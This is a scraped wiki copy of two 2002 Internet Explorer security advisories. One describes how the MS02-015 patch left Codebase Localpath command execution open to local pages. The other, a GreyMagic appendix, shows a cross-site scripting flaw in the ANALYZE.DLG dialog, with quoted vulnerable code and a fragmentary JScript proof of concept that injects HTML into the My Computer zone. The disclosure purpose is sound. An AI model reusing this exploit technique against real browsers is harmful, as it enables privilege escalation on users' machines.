Gudinna Wiki VisaÄndraBifogaVersionerUppdateratSökKarta

IE allows universal Cross Site Scripting

Note: these two exploits does not seem to work from this wiki since the wiki can always display a "valid" invalid page.. try the exploits from their orginal pages.

Original URL

Examples for TL#002

Return to bulletin

Straight to exploit


The MS02-015 patch by Microsoft seemed to fix the Codebase Localpath Command Execution vulnerability. It sure seemed like none of the examples provided by the security community worked anymore.However, testing these examples from locally residing HTML files proved that Microsoft had merely removed symptoms instead of fixing the problem.
How did MS02-015 fix the problem?
Simple, it disallowed the codebase file execution ability from non-local zones (HTTP://).
Why is this bad?
Even when you are running HTML files from your local harddrive, the pages are still sandboxed. Trying to automate ActiveX components that can tamper with the filesystem (Scripting.FileSystemObject) or execute programs (WScript.Shell) is forbidden for HTML pages - in any default zone setting. Only HTML Applications are allowed this level of access, as they are by definition unsafe HTML pages that require the users explicit consent to run.
The mere fact that the Codebase command execution still works locally proves that it has escaped that sandbox model.
What should be done?
The codebase property references the file in which a COM object resides. Unconditionally executing that file is bad and should simply be disabled.


Pick file:


GM#001-AX Appendix to "IE allows universal Cross Site Scripting".
Faulty MS02-015 patch:
Codebase Localpath
Introduction to HTML Applications (HTAs):
Unpatched IE vulnerabilities:16 April: Released.
16 April: Added link to GM#001-AX Appendix to "IE allows universal Cross Site Scripting", detailing how IE5+ is also exploitable to a variation of this vulnerability.

Orginal URL

Appendix to "IE allows universal Cross Site Scripting"

GreyMagic Security Advisory Appendix GM#001-AX

By GreyMagic Software, Israel.
16 Apr 2002.

Topic: Appendix to "IE allows universal Cross Site Scripting".


Thor Larholm has discovered a vulnerability in the implementation of dialogs in Internet Explorer.

However, his demonstration is confined to IE6 because the resource he found to be exploitable first appeared in IE6 (privacy policy).


We have found an exploitableresource that was shipped as early as IE5.

"shdoclc.dll" also contains an "ANALYZE.DLG"resource, which is not as easy to exploit as the policy error files in IE6, but a bit ofmanipulation gets us the same results.

"ANALYZE.DLG" seemed to be programmed with surprising care, using insertAdjacentText where "unsafe" content may appear instead of innerHTML or insertAdjacentHTML.

However, there is one place where the programmer didn't take enough caution, line 187 contains (comments added to explain the code):

// Expected to return an array of <link> elements.
// theDocument variable used in this line is the document property of the
// argument sent to the dialog, an expected window object.
links = theDocument.all.tags("link");

// Sends the array for inspection by anotherfunction
retVal = checkLinkReadyStateComplete(links, reportLocation);

And inside the function checkLinkReadyStateComplete:

if (objects == null)
 return retVal;
for (i=0; i < objects.length; i++) {
 element = objects(i);
 if (element.rel.toLowerCase() == "stylesheet"
  || element.rel.toLowerCase() == "alternate stylesheet")
  if (element.readyState != "complete" && element.readyState != 4) {
  reportLocation.insertAdjacentHTML("BeforeEnd", L_StyleSheetNotInstalled_Text + element.href + "<BR><hr>");
  retVal = true;

The problem is, of course, in line 205, a dangerous concatenation inside a call to insertAdjacentHTML.


<script language="jscript">
// HTML to be injected (will run in the "My Computer" zone)
var sHTML="<b>We're in!</b>";// Object to return from tags("link"), must be a function because they use
// objects(i) instead of objects[i], VB style collection access.
function oExploit(iSec) {
    return {
        // Satisfy line 201

        // Satisfy line 204

        // Exploit line 205

// A length property so it will enter the loop

// A fake window object, so no errors will be raised during the process,
// the custom "tags" method will return an empty array for any element
// other than our target (<link>), in which case it will return the oExploit// object above.
var oSecurity={
            tags:function(sTag) {
                return sTag=="link" ? oExploit : [];

// Run exploit, getFile.asp redirects to res://shdoclc.dll/analyze.dlg
// and oSecurity (fake window) is sent as the dialog argument.

Tested on:

IE5sp2 NT4 sp6a, all patches.
IE5.5sp2 NT4 sp6a, allpatches.
IE6sp1 Win2000 sp2, all patches.

Demonstration: Notes:

IE5 acts very strangely with this exploit, it works SOMETIMES, a few reloads usually get it to run properly. It seems to have a moral issue with redirecting to res:// files.

IE5.5and IE6 both run it smoothly.


Please mail any questions or comments to

Copyright © 2002 GreyMagic Software.
Powered by IDNS.Referens till aktuell sidaFrivillig gåva till stöd för driften av Gudinna Wiki :